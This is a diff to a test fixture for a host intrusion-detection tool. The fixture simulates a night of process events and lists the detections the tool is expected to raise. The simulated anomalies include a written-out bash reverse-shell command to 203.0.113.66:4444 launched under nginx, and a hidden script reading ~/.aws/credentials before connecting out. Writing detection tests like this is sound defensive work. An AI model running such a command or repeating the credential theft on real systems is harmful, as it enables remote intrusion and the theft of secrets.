@@ -34,7 +34,9 @@ from detector_factories import (  # noqa: E402
 )
 
 from vigil.events.jsonl import encode_event  # noqa: E402
-from vigil.events.model import Event  # noqa: E402
+import msgspec  # noqa: E402
+
+from vigil.events.model import Event, FdInfo  # noqa: E402
 from vigil.sensors.authparse import parse_syslog_line  # noqa: E402
 
 NIGHT = datetime(2026, 11, 26, 0, 0, 0, tzinfo=timezone.utc)
@@ -184,11 +186,22 @@ def anomalies() -> list[Event]:
                 parent=script)
     nginx = proc("/usr/sbin/nginx", pid=100, uid=33, user="www-data", parent=init())
     rev = sh_c("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", parent=nginx, pid=9001, uid=33)
+    onto_stdout = dup2(rev, 1, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1))
+    onto_stdin = dup2(rev, 0, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1))
+    # the process as the eBPF sensor records it after each dup: its standard fds as the
+    # kernel describes them (stdout first, then stdin, on the one socket)
+    sock = msgspec.structs.replace(onto_stdout.fd, lip="10.0.0.5", lport=40100,
+                                   name="10.0.0.5:40100->203.0.113.66:4444")
+    onto_stdout.fd = msgspec.structs.replace(sock, num=1)
+    onto_stdin.fd = msgspec.structs.replace(sock, num=0)
+    null = FdInfo(num=0, type="file", name="/dev/null")
+    onto_stdout.proc = msgspec.structs.replace(rev, stdio=[
+        null, msgspec.structs.replace(sock, num=1), msgspec.structs.replace(null, num=2)])
+    onto_stdin.proc = msgspec.structs.replace(rev, stdio=[
+        msgspec.structs.replace(sock, num=n) for n in (0, 1, 2)])
     return [open_file(cat, "/home/dev/.aws/credentials", ts=at(3 * 3600 + 30 * 60)),
             connect(curl, "203.0.113.77", 80, ts=at(3 * 3600 + 30 * 60 + 1)),
-            execve(rev, ts=at(4 * 3600 + 10 * 60)),
-            dup2(rev, 1, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1)),
-            dup2(rev, 0, "203.0.113.66", ts=at(4 * 3600 + 10 * 60 + 0.1))]
+            execve(rev, ts=at(4 * 3600 + 10 * 60)), onto_stdout, onto_stdin]
 
 
 def night() -> list[Event]:
@@ -227,15 +240,16 @@ def expected_detections() -> dict[tuple[str, str], int]:
         # certbot rewriting its private key (and reading one before talking to ACME,
         # counted with data_exfil above)
         ("sensitive_write", STATIC): N_CERTBOT,
-        # npm builds: a shell under node
-        ("webshell", STATIC): N_NPM_BUILDS,
+        # npm builds, a shell under node: node accepted no connection, it is not serving,
+        # so these are no web shell at all (not even audited)
         ("dns_direct", STATIC): N_CSCLI,
         # the credential theft: read, then curl out; from a hidden script (Sigma's auditd
         # "Use Of Hidden Paths Or Files" assumes the PATH records of executions, and cat
         # reads ~/.aws/credentials: docs/sigma.md)
         ("data_exfil", INCIDENT): 1,
-        # the reverse shell from nginx: the shell, its command line, and its stdin dup2
-        # (a redirect of stdout alone is a port check for the default rules)
+        # the reverse shell from nginx: the shell, its command line, and the dup2 that puts
+        # the socket on stdin too (a redirect of stdout alone is a port check for the
+        # default rules)
         ("webshell", INCIDENT): 1,
         ("reverse_shell", INCIDENT): 1,
         ("Suspicious Reverse Shell Command Line", INCIDENT): 1,
